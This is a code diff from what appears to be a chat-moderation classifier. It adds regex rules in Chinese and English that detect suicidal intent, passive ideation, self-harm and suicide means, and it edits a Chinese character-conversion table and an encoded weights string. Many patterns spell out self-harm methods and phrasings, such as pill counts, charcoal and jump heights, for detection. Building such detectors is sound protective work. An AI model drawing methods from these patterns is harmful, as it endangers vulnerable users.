@@ -2613,7 +2613,11 @@ harm	0.96	我?割(了|下去|开)[^.!?;]{0,4}血[^,.!?;:]{0,4}§(止不住|停�
 intent	0.97	§怎么(走|离开|结束|死)¶[^,.!?;:]{0,4}(不疼|不痛|没痛苦|不难受)¦§\bunal¶iv(ed?|ing) (myself|me)\b¦(^|[^a-z])§ctb¶(?![a-z])¦§\bchec¶k(ing)? out (of life|for good)\b¦\bhow §many¶ (of )?(these |those |my |the |sleeping |pain ?)*(pills|tablets|meds)\b[^.!?;:]{0,16}\b(too many|fatal|lethal|enough to)\b¦从[^,.!?;:]{0,4}楼[^,.!?;:]{0,3}§(掉|跳|摔)下去¶[^.!?;:]{0,8}(疼|痛|知觉|死|快不快)¦§\bsurv¶ive a (jump|fall) (from|off)\b¦§(药|药片)¶[^,.!?;:]{0,8}(一次|一口气|全部?)都?(吃|吞)(完|掉|光|下去)¦§\bdoes¶ it hurt to (drown|hang|od|overdose|jump)\b
 means	0.97	§绳¶子?[^,.!?;:]{0,4}(系|绑|挂|套|打|备)好¦§买¶了?(一?[袋包箱筐])?炭(?![火烤笔])[^.!?;]{0,4}(你们?懂|门窗|关好|封)
 passive	0.8	§恨不得¶[^,.!?;:]{0,8}(没被生|没生|没出生|不存在|没来过)¦\b(not|never) (planning|going|gonna) (to |on )?mak(e|ing) §it t¶o (my )?(\d\d\b|graduation|christmas|new year|spring|summer)¦\bdon'?t see (my|me)§self¶ making it to\b¦§\btell¶ my (mom|mum|sister|brother|dad|wife|husband|kids?|family) (it )?(wasn'?t|isn'?t|was not) (her|his|their) fault\b¦§(下辈子|来世|来生)¶[^,.!?;:]{0,4}[做当]你?的?(女儿|儿子|闺女|孩子|妈妈?)¦§销号¶[^.!?;]{0,10}(人生|这辈子)
-intent	0.97	(^|[,.!?;:] ?|\b(feeling|feel|kinda|still|really|so|been) )§suic¶idal\b(?! (play|move|attack|charge|deck|skill|general|hero|card|strategy|rebel|lord|run))¦§(紫砂|z杀)¶(的话|吧|了|过|热线|哪天)¦§割完¶[^,.!?;:]{0,4}(舒服|轻松|好受)¦§\bsewe¶r ?slide\b¦把自己弄死¦(儿子|女儿|孩儿)§先走一步¶¦怕自己[^,.!?;:]{0,2}§往前¶[迈跳走]¦\b(tablets|pills) §woul¶d it take\b¦§屏幕外¶头?的我
+intent	0.97	(^|[,.!?;:] ?|\b(feeling|feel|kinda|still|really|so|been) )§suic¶idal\b(?! (play|move|attack|charge|deck|skill|general|hero|card|strategy|rebel|lord|run))¦§(紫砂|z杀)¶(的话|吧|了|过|热线|哪天)¦§割完¶[^,.!?;:]{0,4}(舒服|轻松|好受)¦§\bsewe¶r ?slide\b¦把自己弄死¦(儿子|女儿|孩儿)§先走一步¶¦怕自己[^,.!?;:]{0,2}§往前¶[迈跳走]¦\b(tablets|pills) §woul¶d it take\b¦§屏幕外¶头?的我¦\b(think(ing)?|thought|thoughts|fantasi\w+|consider(ed|ing)|plan(ned|ning)?) (about |of |on )*(just )?§endi¶ng (it( all)?|everything|myself|my (own )?life)\b(?! (with|between|for))
+passive	0.8	(从|跟|和|对)?§(人间|人生|人世|地球|这辈子|世界)¶[^,.!?;:]{0,3}(提前)?(退休|下班|下线|离职|辞职|注销|退订|打烊|关机|退租|删号|销号)¦(退休|下班|下线|离职|辞职|删号|销号|注销|打烊|退订|卸载)了?[,.!?;: ]{0,2}(从|的是|跟|和)?§(人间|人世|地球|人生(?!赢|巅|重|目))¶¦我?(想|要|打算)§把自己¶(给)?(删|注销|卸载|格式化|关机)¦\b(log|clock|check|sign|tap)(ging|ing)?§ (out|off)¶ (permanently|forever|of (my )?life)\b¦\boff (of )?§this¶ (ride|planet|world|earth)\b(?! (spin|lol))¦\bnot §resp¶awn(ing)?\b[^.!?;:]{0,10}(at all|ever|$)¦(要是|如果|万一|希望|最好)[^,.!?;:]{0,6}§(刹车|电梯|飞机|车子?)¶[^,.!?;:]{0,3}(坏|失灵|失控|掉下|翻)[^,.!?;:]{0,4}(就|也)(挺|蛮|还|算)?(好|行|不错)¦\b(think\w*|thought|want\w*|wanna|tempted|urge|feel like|wish\w*|keep)\b[^,.!?;:]{0,20}\b(driv|swerv|steer|crash)(e|ing) (my car |the car |straight |right )*§(into|off) ¶(the |a |an |oncoming )*(median|tree|wall|pole|truck|traffic|bridge|cliff|river|lake|barrier|guardrail)\b¦§(明年|以后|今后|往后|下次)¶[^,.!?;:]{0,8}(不用|不必|别|甭)(再|给我)?(算|订|准备|留|买|摆|算上)[^,.!?;:]{0,3}我(的|那)(份|一份|位|碗)¦\bwon'?t (be )?§need¶(ing)? (my |any |a |the )*(birthday|presents?|christmas|gifts?|graduation|future|retirement)\b[^.!?;]{0,16}\b(this|next|any|ever|anymore|after)\b¦\bsee (any|a|no) (version of )?(next year|the future|future|tomorrow|world)[^.!?;:]{0,4} §with¶ me in it\b
+means	0.97	(瓶|盒|板|药)[^,.!?;:]{0,4}(全|都|已经)*§倒¶(在|到|进|出来)?了?(手|掌)(心|里|上)¦§药¶[^.!?;]{0,12}(凑|攒|囤)(得)?(够|齐|差不多)(?!.{0,4}[桃酒牌血])¦§没(走|死|跳)成¶[^.!?;]{0,4}被[^,.!?;:]{0,6}(拽|拉|救|抱|拖)(回|下|住)(?!.{0,4}(加班|开会|吃|喝|打))¦(往前|再|就差|只差)[^,.!?;:]{0,3}[半一]步[^,.!?;:]{0,3}§(清[静净]|解脱|结束|自由|安静)¶¦§窗¶户?[^.!?;]{0,8}(就差|只差|只要|就)[^,.!?;:]{0,2}(腿|脚)[^,.!?;:]{0,3}(抬|迈|跨)¦§想跳¶(下去)?(?![槽舞绳伞操杀反忠])[^.!?;]{0,8}怕(砸到?|吓到?|疼|痛|死不)¦(跳|落地|掉下去|摔)[^,.!?;:]{0,4}要?(几|[一二两三四五六\d])§秒¶(就|到|吧|吗|啊|$)¦(算|数)[^,.!?;:]{0,3}要?§几秒¶(落地|到底|着地)¦§绳结¶[^,.!?;:]{0,5}(会|学会|练好)¦§\bhow ¶(tall|high) (does|do|should|must) (a|the) (building|bridge|cliff|fall|roof|drop)s? (have|need) to be\b(?! (to (count|qualify|get)))¦\b(do|doing|did) the §math¶ on how many\b[^.!?;:]{0,20}\b(pills|tablets|meds)\b
+harm	0.96	§(袖子?|手腕|胳膊|手臂|大?腿|肚子)¶(底下|里面?|上|内侧)[^,.!?;:]{0,2}(又|新|再)[^,.!?;:]{0,2}(开|划|刻|割|拉)了?[^,.!?;:]{0,2}(条|道|刀|个字)¦§(拿|用)(圆规|小?刀|刀片|美工刀|剪刀|针|笔尖|玻璃)¶[^,.!?;:]{0,2}[在往](自己)?(的)?(大?腿|手|胳膊|手臂|手腕|身|肚子)上?[^,.!?;:]{0,3}(刻|划|割|扎|戳)¦\bmy (thighs?|arms?|wrists?|legs?) §look¶s?( \w+){0,2} (barcode|tally|zebra|cutting board)\b¦§\bdese¶rve (every|each|all (the|of the|these)) (cut|scar|burn)s?\b
+passive	0.8	\b(i|i've|i have|i already|already) (already )?(wrote|written) (the|my|a goodbye|a final|my last) (last |final |goodbye )?§note¶\b(?! (on|in|for|down|about|that|from))¦\b(wrote|written|writing) (goodbye |farewell )?(§lett¶ers?|§note¶s?) (to|for) (everyone|everybody|each of|all of you)\b¦§身后事¶[^,.!?;:]{0,4}(写|安排|交代|想好)¦§\bthis¶ is (my )?(goodbye|farewell)\b(?! (for (now|tonight|today)|to (the|your|that|this|my (old|free))))¦§\blast¶ time (you|any ?(one|body))('ll| guys|'re going to| will| all)*( ever)? (see|hear from|talk to) me\b(?! (with|on (this|that)|play|as|do|lose|win))¦§\bforg¶et (about )?me[^.!?;]{0,6}\b(so|then) i can (go|leave|finally)\b¦§我活着¶[^,.!?;:]{0,4}(占|浪费|污染|消耗)¦我[^,.!?;:]{0,5}(人|就该|只配)[^,.!?;:]{0,2}§(烂|埋)在(土|地|泥)¶[里下]¦§心跳¶[^.!?;,]{0,6}(能不能|可不可以|要是能|自己)[^,.!?;:]{0,3}(关|停)¦我(要是|如果|万一)?§(哪|有一)天¶(要是|如果|突然|真的?)*(没了|不在了|消失了?)[,.!?;: ]{0,2}(你|大家|帮|别|记得|谁)¦我[^,.!?;:]{0,3}§不值得¶(被)?(救|活)[,.!?;: ]{0,2}(你们?|别|不用)[^,.!?;:]{0,5}(劝|拦)¦想(当|做|来|体验)[^,.!?;:]{0,3}§自由落体¶¦(打完|今晚|明天|我|想)[^,.!?;:]{0,2}(就|去|要|想)§zs¶(?![a-z])¦§\bwoul¶d any(one|body)\b[^.!?;]{0,12}\b(come|cry|show up)\b[^.!?;]{0,16}\bfuneral\b¦§\bplan¶ is (set|for |tonight|tomorrow|(mon|tues|wednes|thurs|fri|satur|sun)day)[^!?;:]{0,16}\b(calm|at peace|relieved|peaceful)\b
 curse	0.9	{CURSE}
 curse	0.75	(^|[,.!?;:]|你|赶紧|给我|快|死)§(滚)¶($|[,.!?;:啊吧呀]|远|开|出|回|一边|粗|吧)
 curse	0.85	你{G3}§怎么(还)?不(去)?死¶¦§你(妈|爹|爸|娘|全家|祖宗)¶(怎么|都|也|今天|是不是|得)?{G3}(死|没了|炸|癌|火化|骨灰|坟)¦(你|祝你|希望你|咒你|愿你){G3}§(全家|出门|早点|早日|赶紧)¶(都)?(死|被车|去世|归西|死光|火葬)¦祝你早死
@@ -2727,7 +2731,7 @@ frame.real	1	§\bnot ¶(just )?(with|about|over|because of) (the|this) (game|car
 
 // src/chatter/line/script-table.ts
 const ALONE = "不不个個为為么麼了了事事产產什什仑侖们們众眾伙夥伪偽佛佛俊俊修修僵僵克克冢冢冬冬冲衝净淨凄悽凌凌凫鳧出出别別刮刮制制勋勳千千卜卜卤滷即即卷卷历歷厕廁参參发發只只台臺叹嘆吃吃合合吊吊同同后後启啟呆呆周周咤吒咽咽哄哄哗譁唇唇啮齧喂喂噪噪回回团團困困在在坛壇坝壩埙壎墙牆壳殼复復大大奖獎奸奸好好妫媯姜姜娘娘娴嫻它它家家尝嘗尽盡局局岁歲峰峰巨巨布布席席干幹并並幸幸幺么床床庵庵弥彌弦弦当當录錄彩彩征徵径徑御御志志念念恤恤恶惡悫愨愈愈我我戚戚扇扇才才扎扎托托扣扣抬抬抵抵拿拿挲挲挽挽捆捆捍捍捣搗搜搜摆擺教教旋旋旗旗既既昆昆昵暱暗暗曲曲术術朱朱杆杆来來杯杯松松板板查查栗栗核核梁梁棋棋榉櫸檐簷欲欲死死毁毀汇匯汹洶沈沈没沒沩溈沾沾注注渖瀋湿溼溪溪滟灩漓漓灶灶炼煉爱愛牦犛狸狸玩玩璇璇画畫症症痴痴痹痺瘘瘻皂皂看看真真睾睪私私秋秋秘秘稆穭竖豎签籤粽粽糊糊累累纤纖线線绕繞给給绝絕绣繡绦絛绱鞝绷繃绿綠缰韁群群胄胄胸胸脏髒腭顎致致舍舍艳豔芸芸苏蘇荡蕩荫蔭药藥获獲莼蓴蓑蓑蔑蔑蕴蘊表表袅嫋裥襉证證说說谂諗谘諮谣謠谥諡谫譾谷谷赃贓赍齎赝贗赞贊赪赬这這迳逕迹跡逾逾酝醞酸酸采採里裡鉴鑑针針钜鉅钟鍾钥鑰钩鉤钫鈁钵缽钻鑽铲鏟铺鋪锈鏽锐銳锤錘锫錇锺鍾镇鎮镌鐫镎鎿镟鏇镢钁镰鐮闲閒阅閱须須颓頹颜顏飧飧饥飢馀餘馆館骂罵骍騂鲇鯰鲞鯗鳄鱷鸡雞鹇鷳鹚鷀麽麼";
-const BETWEEN = "丑_时丑 文_丑|个_中箇|于_吉于 _禁于|伙_不伙 _好伙 _藏伙 团_伙 家_伙|克_制剋|准_许准|几茶_几|凶吉_凶|出_情齣 一_齣|划_水划|别_扭彆 _着彆|制_造製|占_卜占|历日_曆|发_型髮 头_髮 理_髮 白_髮|只_小隻 _碗隻 _羊隻 _身隻 一_隻 三_隻 两_隻 船_隻 那_隻|台_风颱|后_想后 太_后 王_后 皇_后|周_年週 _末週 一_週|坛_上罈 _子罈 _底罈 _酒罈 一_罈|复_想覆 _杂複 反_覆 回_覆 重_複|姜生_薑|家_伙傢|尝_厉嚐 _尝嚐|尽_管儘 _量儘|岳_飞岳|布摆_佈|干_一乾 _了这乾 _净乾 _就乾 _杯乾 _涉干 _燥乾 _的乾 _脆乾 若_干 饼_乾|幸_得倖 侥_倖|征_服征|念_了唸 _咒唸|恶_心噁|托_了託 _付託 _福託 _管託|挨_上捱 _了捱 _打捱 _骂捱|斗_转斗|松_一鬆 _了鬆 _快鬆 _手鬆 _绑鬆 一_鬆 放_鬆|板_你闆 老_闆|沾均_霑|签_名簽|系_记係 关_係 联_繫|胡_须鬍|致精_緻|舍_不捨 _在捨|苏_醒甦|表手_錶|谷_丰穀 _是穀 _物穀|赞谬_讚|郁郁_郁|采_薇采 神_采|里_程里 公_里 千_里 百_里|钟时_鐘|霉_了霉 _事霉 _蛋霉 倒_霉|面_卧麵 _条麵 _粉麵 吃_麵 拌_麵 泡_麵|须胡_鬚";
+const BETWEEN = "丑_时丑 文_丑|个_中箇|于_吉于 _禁于|伙_不伙 _好伙 _藏伙 团_伙 家_伙|克_制剋|冲_往沖|准_许准|几茶_几|凶吉_凶|出_情齣 一_齣|划_水划 _算划|别_扭彆 _着彆|制_造製|占_卜占|历日_曆|发_型髮 头_髮 理_髮 白_髮|只_小隻 _碗隻 _羊隻 _身隻 一_隻 三_隻 两_隻 船_隻 那_隻|台_风颱|后_想后 太_后 王_后 皇_后|周_年週 _末週 一_週|回轮_迴|坛_上罈 _子罈 _底罈 _酒罈 一_罈|复_想覆 _杂複 反_覆 回_覆 重_複|姜生_薑|家_伙傢|尝_厉嚐 _尝嚐|尽_管儘 _量儘|岳_飞岳|布摆_佈|干_一乾 _了这乾 _净乾 _就乾 _杯乾 _涉干 _燥乾 _的乾 _脆乾 若_干 饼_乾|幸_得倖 侥_倖|征_服征|念_了唸 _咒唸|恶_心噁|托_了託 _付託 _福託 _管託|挨_上捱 _了捱 _打捱 _骂捱|斗_转斗|松_一鬆 _了鬆 _快鬆 _手鬆 _绑鬆 一_鬆 放_鬆|板_你闆 老_闆|沾均_霑|签_名簽|系_记係 关_係 联_繫|胡_须鬍|致精_緻|舍_不捨 _在捨|苏_醒甦|表手_錶|谷_丰穀 _是穀 _物穀|赞谬_讚|郁郁_郁|采_薇采 神_采|里_程里 公_里 千_里 百_里|钟时_鐘|霉_了霉 _事霉 _蛋霉 倒_霉|面_卧麵 _条麵 _粉麵 吃_麵 拌_麵 泡_麵|须胡_鬚";
 
 // src/chatter/line/script.ts
 var tables;
@@ -18727,8 +18731,8 @@ const CONCEPTS = [
 	"exaggerate 玩死 吵死 吵死了 丑死 笨死 冻死 撑死 香死 难死 疼死 die_of_laughter die_of_boredom die_laughing bored_to_death dying_to 笑死 气死 急死 烦死 累死 饿死 困死 热死 冷死 羡慕死 尴尬死 社死 吓死 爱死 酷毙 帅死 美死 死了都 要死要活 想死你 死定 死磕 死守 死保 拼死 死忠 打死 杀死他 弄死他",
 	"shout ! 啊 啦 哇 呀 嗷"
 ];
-const BIAS = [-6, 2, -16, -21, -17, -19, -21, -21, -21, -22, -16, -13, 1];
-const WEIGHTS2 = "$#,HQu*w,]d-M_Boe,ZN5W=7J^h*tHK5`d{'waAJ{4(3msHt3;eF2`U;,1mR@GmW_>]aV@dL*eVG%wV0G6oT`gO;1wGvI-AnqHb+nXKhG9ov0YMzDIoYD@`hXwai|h9`oF@]W1]Q+-qdD}b0m(4$zvm;C+H{*Ybh%]v-`Rg~}`~jL|7vr3daTF0Wv1?Z]#`T[&g$e7]a=vCIM#snzZ>8$~V4Lz6~gn67f2TTE2M=_xJV4g)h=']-:<J'SKhv@#84n*MqIm-wW&#3(gOH/K8=F'5e>;PQcF]nN?~71CeNjGL:Qk/=4K%AqIAP#l59bejxPb>us+L(fjkSgt-pLc#PV2;BQwWqr%/LY+Klc??v4:#r(r9:HLv,fioL(HAoF*S.V$;y3K9fPB7Sl-j3c@cCqPM4;G1B0/6P2LQI9X$g;[c?:}5zE6/'(E7N)EoT<KEb#;]n+'ah1=0~/T'@cDw0|p-G/0=kaZMbF$Q;3hd)z70ODJe'Rk@^)U8mW=v:f$W@&&r0GT(+,(^J3uQUb=`l%-dK6w0BPX${Svu}Fx:jQwehFa+x~m>KVBpL>.%#|_MzX2il?xMDIl40)H}4Mrr4t(v-m}~P@1PP&H}+CWLJ>+SqYz|E]u@766$TL2jFqku}aI1qI@1#L$S3tTUJ#3cb=@82u=pWsHgyt;nT%7:8sj)IH:oK/ss%S90=w:.<moG[,T30Hn/hg&,UYKQ?oa6Itpx?fba>d;05s]iz#{=%PE}XTWnL.k-}3/B8r*Q~h460Oncy=1J09XCyzo^}.5iF+X,qL$U+[GXgTTXB]6`@VYf6~aoF.%ANoN7b^DTxmQ&]$(<tsA}nw}.T7n*Nnd4-h~4,3]&F6sP*7V<ki'|,C(~{BjFfc}<keDB/>]=h5@JFH0Oo:VH(n(_J%lO[OrPJUw=&.LB]/:1iHqr(/f?Ee$o`${(]Q|CX%Gm[?ygl*c6Ij#Q^A@=Cv`__D(4oaVOw.m8_+aoBl:^Jr*S{0[A9OSs.yM,fbtrcr,0u.zJc{R/R?J;'GM;E*ZRXZA*x4Bpc[x&8daK^n={WZHs-[FJUKGZMM`ymErtnIxmT%S.N~6?j=y'P'+Forp:Q%)@xZ._tNOfP.elq'}Uff6-2{c<us$C-uHyQ)yAV^<Z*i1`b8EJaJv|YGe0~T5D0H%C~+g-;@(;[Her&cis}bl4MBz)=}P@m:X61m[N:tWU,[=$Rv_E7+Mp>@X8|TC,qtda>pb]z}7yK<nU_>?,oVbk#Qp;8]xGznH,N(B?#gd,]PV4X`d>pz*svI[KhJ7|>&9p)xCg7~iJGnprj&(Uks,AZl@I;n.8w98VphbH7IU=Q1)y+7k>g{&hBvK<+G2aZf]Lt8)%M=CAbXK~{xu56(K)c{[T<K,'I{L@..xFDLw{h-+8>t$D^.*N}SgXbyIT^ZV]Dm<k?lAH{XW_<-0hTkG=ob2)n*yo<S.^j*=e~QI(9@-uIMV|rpjh9+%2~r`(~zGLLQ>t`uNBMH}r'2'ei:o3e0~p*nfx&4g1nq^i^~oavS7spKZEXPS}9<=oZr<a}6r)}Xj(#-M3#i1n9X>+>oXYMzmp's^xDtd3$$Cos1U/lYEQ=8|FXy>e.yX^u]_u,-/??G;8<6y(}{TmAPFl`8.r1tT'9gmfT5v,J4G$?+?FH))N;/sZW5dC&bZ]t58lG<u-:|:`6X.upg$UhnFr==o?eX')5Oj(@&&nqBx8cv3'cG/48K[43vy6h<.xP^13kddhA[hC8+cW_BFR6OR7B]V<On%<u9EPYukTUj'3q5/?~8$:oOT4Cx:g;M_DpAB7M]/JgKP&WiE==YyMN<g@0Z9,2Y_3>Tf_vbno%TH?G;s1PR-qWOc-K@-&auuq0P26i+2T,*bke]x:k3rD?zwSITeEV#LcVEH:>Od2~#6DM7Zw#+Ll&v5w$RgGuEn$rwusKrW|[yi2kNxw9Nfu_Q3j4'=)eS/b0nDX9Szs`U9nm74OG?($S&*eQ[%$bGR/kTp;bVaWDzUw~pJZ5Kicf%&)&W+k{>:2)[{;8a7z+0=Xr$+#S2BE$9i2zcrQ?j->{LcV}>VM@iea-zU[zOE:i#6.^C@fW?#P,rn5bWSk2FzR/{A}zr0/F@y~Dop{AWp_Apr`0hTB)Ffisi3VArNY-|E1+bv|--UZEB36^N4f|BM$'}%avytH2qei7/;n'Rt.QGpqafEuq1p[iq=avR}hHP;fVtuNkoy9ZQWJ46y;D5E?H-<r71>9{,:e.q9AkxAKS9_Dz/:4vxe'wE.H+*5DFUM&CU{Og[b[[rj1;+=1`zAaoo6yE(_P-/2%*.blG-/Vxj/dQ6,GAr4sl)p:FnW(6vlw:5~JcvLL'/UdJvW?Lx]f+>v=<m]33tWfXbCc=Yt4b;is'_g#b#%rkSh%i5#ypSq]>D@ul_12e/4N]_{)JLlGFc`>4+w;3vC42wIW;c-SQ,~]Bt.N<p[%M+mC)x@6S;@3$9Q}Rok>}u`=R*]F`#x~)JU7_R_MkQhWy,welQ+f&c]Y3X$IFY$<k`9cqity7LQjUG-Ws^qZr~T*^k>zs``6-Mr7E-P<mjut2l~`uZ`;c1rGDZq4#|7h20hbbCzbCO''&YVYT~u/'^n6$?+1`x=g~/0yN7}hjUQyF_{%@eFPfm='[9xSDfjez5/IXiqqn(ZH(<ef:(sT+T,GM:dh0Kw.RBmZsMjBPP#zM|uJE$:3&vc`4`A4'^<jC[1hagJ)_a#Q`OkP?2_25kVt?zrc9[KNc$9r,N7DJ,3{S:fh;bhEg|mV'@$Spd^G<i7mWk5Fg_~Hj)Q[823P}TX9]%qsdFp,^<Mvjug4A?ZSY@cZtN`4e={7bS6OJhC}SHx$2y[|9XCVUkF@X7@|`V,xp>XU7c9FiX-GPW4)U/DLUr^VX~yQj}/3^+#ZeNzAXX'_tIJOL~%FIC7l{CQFk0e2ga|GT*3U<6;A;Q7%_Kj/_Hrvop(Vz*oWT'j30iF_nG@O?R]$y@INnLFsV(6DvdAWo_(OQ.;X)31*EbMB}bMg4[ux6s:f04D7YklX>[(4B<T'mlkK3K,CU_fRGqpo_=NFg']6,>QsNEK#R&j(a;LUU7Uo=v9$v?K|Ursb713Te#,nLWNOvL'-EO3J?z^q%wp7Sgq}?SQB_o<gm4)'i7mo/([$g}S*+hub20*T2LL02:0+U_^_F'M1F,G4s;O`Zemn.L;Wf&@`B=L'6EY.Sh50Ojx}ac24&VsKe-Ro-8+f$i=21%E&mv0I[~sG#T(J7e9kWcZWdl$<)cYEbrl5;wL.2Q.*x&,9c*L:Uz7u)JqEO8ZRZ7?^y$7x%Y|42R[]yb+<zJk'cLb@a2-ej{p2y.$9zJ5S_S.jfMMSN_B5')K-Qui{:d{:w4-kJ+$$)6Xht[t$w%m'],CM`W?J#%E`xv@M_x*kS~Lq}P,+#hWDQrxq^t<JUG(j`K1eG}xL+ZoEp].P[I0a&RYhtk]S<rVif[|nUM7jli7a/XD.fd}&OT-jM>w/Ig>0P/`8c-n=Bp{<zzbfo[.('zgT[Y-aPebtt4u+I8F8i*TDjidNOZH@%8JtEtwJM[6ZLqTbHM~&z]EP9>OJVi5rfv?@|z0K5&[cKG`<]QJ}4_/Q>twi#Zmcz:fkX%l~7AAPCm)ZW4'Q;Lx):B2g=8TQ*Cl)n]aPHL5Xr5UN{5UBSp=w7>oo~=7qqB7xfL1,w{c+:uqQ[O~v5iOK,@]byv6Ish`23B/^[wT6^M{:n9RG]<~0[eU0D1p0KFPn$p}4+-+(x;TCY&Sr(}(`ZO.ajV~lOwxC6uK#%m]*M,QBy&>/tsY|Su@^KD2d].HvUWr#[$D~;@,Ocs9$KaTUqK8K(){,=OKea7mrwfVhulY4GFGEA|?*Q7xd7_9U1UnAX|pSOwGFIV;~K#lcb[zMxTC=$a(ebIKj2?~>T0:%Tf=W1n/o[o-hR&1?1&RNQ{t4d<4i+69GoT'.{PPu>'E(z+pnK3e?Ng<pRS_0Rll]hd,&QXJ<TQ)Tb$YhR)MbJ-H,x6k.t+_Usgr|P5*mMf'RB@Np0V/vK.'ETHGdS`Plbg{6*5K2%)7d~RbmYfU^olzlZKY%I9'6HDm^]Tb:tT]tX%+=HTsB|d-9jNZkOCf0W?_fb]4<prts'ep4Bo`va12?l;:db:EreIj8qUn?wKmhg|0c7w.%,Z?2QA0`*$1=j8UYTgoIl,xXcH_2Y*(T#.Gc5y%,_l)#-Nhx&f/ND}L:DSX_xIhOC&~)mSnJ,.Q[{Oz81?vU<Zr_<5ow7O]:WV>|U/z-+z#Fe+$K^p6[nGl,]s3Eh0${(#>Yt;8m*fLtUhbA3:~#<Bq#JJgo,-Mjfk)3o(c$'uY#8u0wgm*%Jg<e~urm=^eD?0Px*Z&O2<D:GoZYmi-*=zu3MI5R%}FgY%NH5'wa)=lYGo|5+'DcH.EnwXG.E5'lgLyB.Lk`HuWd[+jIg6e|^)km&.rKO`D.o/gG`mTrEPD8>MRrs+)Jh~oojI3/WybtL3tA?ZU(HV?Z|fr?|jmrCijM1;(7g|eoG84|?b*knd,y>JRs|7SR#3OBNgM.|8+ehG|UUf|r}vBz1c@k<X#PVfaU``pK_<>u_7FW)|0H(M(PWZOiMKA[#i4?L-$UixmC+J-CP0t+AQczXG}+gn`=_44JxhM9L9ZI:D$X)qktXbWcfH#AE8,{4/f*?pG}_O-#)1gAy$X#1[nfB/i@8oG`aU:PSf0PS-FE]fqP,`cM)*D{KYh>69B%@k-*KPgD)X:uf=$p~~9uIyGQ&Jki6gJNGLl==%`n'}iWU{3m^l.LgM<Fej751'4oe/}1W(=M~NU(U@MaeU*j[>E._4p4MD^XyC^b4&w3g7?q~aeo|PVF;WrA_b,/?FpHptB1H(](jS-o{`CWRPox&Lqi8hiq6}`z2QX?Ag_,~tMb-G:4V5^/FW6$7)7_Q2^eSK%I{#Z~g*6vQSTSf-mc)W`x].tsJgO<gX9hQc(u%?9H^kG;zyrP{2XMA-r:X#GKtV-+h{M?D`U')Wojd=b<;G&^WZ_~{F*h3v;vBD*ODd@+H^`xmq22Dt]Hqo/|s`pSAM>xAYY(eSUpkGOs#z1[RL?xWu3uvT72~K7$Erx-)F%ZGj+kX`QT-q85ws-lIu%R40ym@1b.AD(,v{mf?Z^7thqpNEUbE[j4CfBo0q35gMG=%ZH6R*T8Bdk?]P6fNze>NkjRz*`C%969=WKmeR_%TYnw7(pSs=1Nf(|;;*DLJL}?7Z.2';-wFO@w)Q1O9rXILN<8hvYcU_414kB)L%T3ej1UN:(wXReY-Pf|I8I=>I@Dm5?lz}glOEM%%=9N/uZ/bIUXS@2vWFu9efD)leAn[SieBWEfQGk~s^gwv>@R%5&3_5;-?UH%JQJRiS#,JnL9$=q7B>#m7IT{I[,r>lV?y,?ZY%#mNMyy^2y*1e#,*oB$-/J(AA6M;:?AwMWch}J.[qXu6gL-sW0`%kJAZ|L-b+.XJR(+H,~j{I.S/>TIhX=Y@n(J8[[y:2Y5YHohg1g~F4ZO6$Wn+2E|bOh$'}X{Q=nr`-myYL:U(kBM3|#_~`W;Fuen^9PH,iG$uzGn[-eO5db,2?PX,/upU8q:a=)+bw_6s0&C8.j=pN[g1aO_Y/XG.8*X<T)AJSt<1$C2|vxEL_#I*ay;kY(E{%0P@uUzp@EsVhE1J{d_VqL75y|~Xt9U6IMfO}N'}Wgqj0ZNef1^g37n=/eyTDAWo24t|s`HQB:da&W%uY8`QSvxy:+nlJi|u_~'tOjCZ2]KmH]'Gl9idFE~I6C{{6]m<3iv2:?%+jp4I/a+)BZ~xapGBPxI9K$U=nX{E~1rlRj.?sSvhLbl?bz~2^A;ZQwgiPM,g8z?POlYj_X4{Q6*42(7v1A{ZTz5qr_:;Dy:/=azT&hWJ%8FZ^/`h[H>lp.di{l2?7F$D0~B,cVe+Crd15{d8zL`,|xa_rpB>hi/lR}0=wc6JC*=RHIGdTPe3rD[.FsPH<1Bc|/(&j6o5IUk_>f5]j0L%{a:OV#MgX_?XBuY{i$#Ri&X94L%%.sdka$eaxK@A4M.MqH<KzCTzn;f*x(v21fe;ga37K;317gE].l,`kCX,aHONv4V+<P21zv.j3m#IYJ9_bheW^Tf:[Rw7x#@rj}u:h(s1E,Hx6Rrv;AmF-(tj$)'XD=$}UbDKEIXBin#:,(xWh8PJ/LCiH]Gr|;EBN^tzKZ<pH/bvU2U+Z8I-9Pef#56zEXX>Wmu%BIA$^1p;4Ba`Hg%}c=wf4]@`TK].73l3q%[v'~;e%Q&hAnr?Pl{;*LJ(x^/ZU}p/~wNp6G/jZ9X:<__ty^S1>aeF-$H7e0't7uW9/z%5a~w(sf5{D;7et*b'2W_$[DEjgs3EoWveanwpzHv#Qo^[Sbd;P(kT%UEJr#B:ey/y&>c-sf5dhh0TTwp9x]M^d@*fN=zyt%b#?v@&7Kv(0KXJ|GY:[io#.?.,qT4`GL1ZAQ#Li*rAf.TCr(Z{Z1j9)<{?8m^g>2|rc2a){UL{b|f#Ef@wy{TS0]{L%q1e+q;qIhZEyw%Ne8XhJOV<$79[0FR&24`.`6Iz;+mY16d.p,@v`yM3(@^x$|2z5p.'3s6ht7~e?VgbO*`%FRf:tX^vqI*7C#{OxF}-8jZ%}g#GoSaj*eG+>}}Gd?e*Nd2<N`r_WiWfHU)2}ceHs=oJUnmTtd>ZlMO`_TP;XLB@V(v/mB;*orj@=n~8t$/<|#Z_g3TIRhn<aJz)$5:p-YA6q0u;Si.Jl/@*o|=V=v&>t.%={?b|UHhJ5G(SwIK6kan82x4znu]$i*y@-/KAO;3<OqDo`IRr~8*F'V7wY0L/[z)P@y4NZdeg5L2_MP5u#b#L_PW+77?Ft8i4JP>xk`7j'|Hk@~HE]b:s(G3ZTd,nQ)7KdLeV@Wn]pP'Tzzkp2lLgXV37uiRl`QZ?E6N%>/RmiSlrDYL3WTuY`5.#>Ss}sh=uXzW}=To<5PmTfVs^h`H4E69Ld;=]RI7OPJ96Y{R4OBXVl/l'/B9B{}PTq[LB8hFr/k=H[1^g?IG`GGU$uQsChF1kM<siUzQCRBa,][Z)d}`9w1j5yg0`j/1/;Mnkf%4*bh8;n.z?.1q#3ylo.l(gemh]3)Gfz+zJRx)C6frMEt*rzYNgtL7C9:Oj+zRW8p4|]yQu`%b8MN(%ek?5~)-a2CUc(JQZD`54jkz_V/MpXmCKMYhaeqW=,]q~Ju81)_myL9zuu.*z1Px9OZTHGcSyWBRc,3N@(*Tu]Jz+&2{T4ujqi]p;m,-NeRh`Qr^BlVGfkwrog^GY_dP%*S7]j<;|@EY1z|j*hMI1#z>7v9$tNS/sR%y)]}oHPPvj*n/o-R+y/^::9Ez4<TXw|'+BysH&$&}~Xtkob+cFFYjp%lgEMBk*A|Sp